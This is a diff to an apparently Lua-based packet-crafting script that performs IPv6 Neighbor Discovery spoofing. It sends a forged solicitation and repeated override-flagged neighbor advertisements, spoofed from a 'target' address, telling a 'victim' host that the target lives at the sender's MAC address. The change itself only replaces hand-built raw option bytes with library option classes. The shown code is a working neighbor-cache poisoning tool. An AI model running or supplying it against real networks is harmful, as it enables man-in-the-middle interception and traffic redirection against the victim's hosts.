@@ -18,13 +18,10 @@ if not (victim and target) then
 end
 local iface = require("pkt.cli").iface(o.iface, "ipv6")
 local mac = get_if_hwaddr(iface)
--- ND options (RFC 4861 4.6.1): source (1) and target (2) link-layer
--- address, in units of 8 bytes
-local hw = Ether{src=mac}:bytes():sub(7, 12)
 local ns = Ether{src=mac} / IPv6{src=target, dst=victim} / ICMPv6ND_NS{tgt=victim}
-  / Raw{load="\1\1" .. hw}
+  / ICMPv6NDOptSrcLLAddr{lladdr=mac}
 local na = Ether{src=mac} / IPv6{src=target, dst=victim} / ICMPv6ND_NA{R=0, S=0, O=1, tgt=target}
-  / Raw{load="\2\1" .. hw}
+  / ICMPv6NDOptDstLLAddr{lladdr=mac}
 sendp(ns, {iface=iface, verbose=false})
 sendp(na, {iface=iface, count=o.count, inter=o.interval, verbose=false})
 print(("told %s that %s is at %s (%d advertisements on %s)"):format(victim, target, mac, o.count, iface))
